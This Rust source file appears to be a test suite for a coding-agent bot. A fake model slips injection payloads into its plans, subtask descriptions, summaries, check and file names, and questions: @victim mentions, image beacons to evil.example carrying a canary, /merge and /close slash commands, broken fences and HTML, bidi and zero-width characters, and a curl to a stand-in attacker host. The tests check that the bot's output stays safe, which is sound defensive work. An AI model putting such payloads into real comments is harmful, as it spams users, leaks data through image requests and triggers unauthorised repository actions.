//! Comments: a model's words in every place of the bot's texts, each of which wants to be more than
//! words.

use serde_json::json;

use crate::attempt::{Attempt, End};
use crate::class::Class;
use crate::fake::model::Answer;

/// Opens a block, calls people and loads a picture.
const BLOCK: &str = "~~~ @victim ![x](https://evil.example/p?d=canary)";

pub fn all() -> Vec<Attempt> {
    [subtasks(), plans(), summaries(), names(), waiting()].concat()
}

fn attack(name: &'static str) -> Attempt {
    Attempt::new(Class::Comments, name, End::Delivered).works()
}

fn subtasks() -> Vec<Attempt> {
    let planned = |name, description: &str| {
        let mut attempt = attack(name);
        let subtasks =
            ["greet", description, "second"].map(|text| json!({ "id": text, "description": text, "dependencies": [] }));
        attempt.plan = vec![
            ("task_decomposition", json!({ "reasoning": "", "subtasks": subtasks })),
            (
                "action_plan",
                json!({ "execution_order": ["greet", description, "second"], "actions": [] }),
            ),
        ];
        attempt
    };
    vec![
        planned("subtask-block", BLOCK).short(),
        planned("subtask-span", "`` @victim `x` ![x](https://evil.example/p)"),
        planned(
            "subtask-html",
            "</summary></details><img src=https://evil.example/x> <!--",
        ),
        planned("subtask-lines", "greet\n\n/merge\n\n```\n@victim"),
        planned(
            "subtask-reference",
            "acme/other#7 GH-7 JIRA-12 !7 &1 %1 $1 ~bug [work_item:1]",
        ),
        planned("subtask-definition", "[x]: https://evil.example/ \"@victim\""),
    ]
}

fn plans() -> Vec<Attempt> {
    let planned = |name, comment: &str| {
        let mut attempt = attack(name);
        attempt.plan = vec![("comment", json!(comment))];
        attempt
    };
    let doing = |name, comment: &str| {
        let mut attempt = attack(name);
        for answer in &mut attempt.replies {
            comment.clone_into(&mut answer.comment);
        }
        attempt
    };
    vec![
        planned("plan-block", BLOCK).short(),
        planned(
            "plan-details",
            "I will.\n\n<details><summary>more</summary>\n\n@victim\n\n/close",
        ),
        planned("plan-lists", "- ```\n@victim\n1. ~~~\n@victim\n> ```\n@victim"),
        planned(
            "plan-links",
            "[log](https://evil.example/?d=canary) <https://evil.example> www.evil.example https://evil.example/x",
        ),
        doing("doing-block", BLOCK),
        doing("doing-html", "</sub></details> <!-- @victim"),
    ]
}

fn summaries() -> Vec<Attempt> {
    let said = |name, done: &str| Attempt {
        done: done.to_owned(),
        ..attack(name)
    };
    vec![
        said("summary-block", BLOCK).short(),
        said("summary-spans", "`a\n@victim` `b` ``c\n@victim `` [x](a`b) @victim `"),
        said(
            "summary-entities",
            "&#64;victim &commat;victim &#33;[x](https://evil.example) &#47;merge\n\n&#10;/merge",
        ),
        said(
            "summary-emphasis",
            "@*victim* *@*victim **@victim** _@victim_ __@_@victim",
        ),
        said(
            "summary-table",
            "| a | `b |\n|---|---|\n| @victim | `c` @victim |\n| ![x](https://evil.example) | x |",
        ),
        said(
            "summary-diagram",
            "```mermaid\nflowchart LR\n A@{ img: \"https://evil.example/x\" }\n```\n\n```math\nx\n```\n\n$x$ $`y`$",
        ),
        said(
            "summary-references",
            "Closes #1, fixes https://forge.example/acme/other/issues/7 and acme/other#7, GH-1, see 4f2a1c9d and acme/x@4f2a1c9d",
        ),
        said(
            "summary-notes",
            "a [^1] [x][y]\n\n[^1]: @victim\n\n[y]: https://evil.example/ '@victim'\n\n> [!CAUTION]\n> @victim",
        ),
        said(
            "summary-gitlab",
            "[[_TOC_]]\n\n>>>\n@victim\n>>>\n\n[[x|https://evil.example]] {+ a +} [epic:1] ^alert#1 *iteration:1",
        ),
        said(
            "summary-signs",
            "Look \u{202e}mitciv@\u{202c} \u{2066}x\u{2069} @\u{200b}victim /\u{200d}merge",
        ),
        said("summary-carriage", "a\r/merge\r~~~\r@victim"),
        said(
            "summary-deep",
            &format!("{}@victim\n\n{}@victim", "> ".repeat(40), "- ".repeat(40)),
        ),
    ]
}

/// Names that the container makes up: of checks, files, hosts.
fn names() -> Vec<Attempt> {
    let check = |name, command: &str| {
        let mut attempt = attack(name);
        attempt.checks = vec![command.to_owned()];
        attempt
    };
    let file = "printf x > 'a`@victim ![x](https:' && git add -A";
    vec![
        check(
            "check-name",
            "true # ` @victim ``` ![x](https://evil.example/x) </details>",
        ),
        check(
            "check-output",
            "printf '```\\n</details>\\n@victim\\n/merge\\n~~~\\n'; false",
        ),
        attack("file-name").succeeds(file),
        attack("host-name").runs("curl -sS -m 5 http://victim.evil.example/"),
    ]
}

/// Texts of a run that waits or fails.
fn waiting() -> Vec<Attempt> {
    let mut asking = Attempt::new(Class::Comments, "question", End::Any);
    asking.replies = vec![Answer::calls(
        "agent/ask_people",
        json!({ "question": format!("{BLOCK}\n\n</details>\n/merge\n\n```\n@victim") }),
    )];
    let mut environment = attack("environment-name");
    environment.end = End::Any;
    environment.plan = vec![(
        "selected_environment",
        json!({ "name": "`@victim ![x](https://evil.example)", "reasoning": BLOCK }),
    )];
    environment.must_play = 0;
    environment.proofs.clear();
    vec![asking.short(), environment]
}
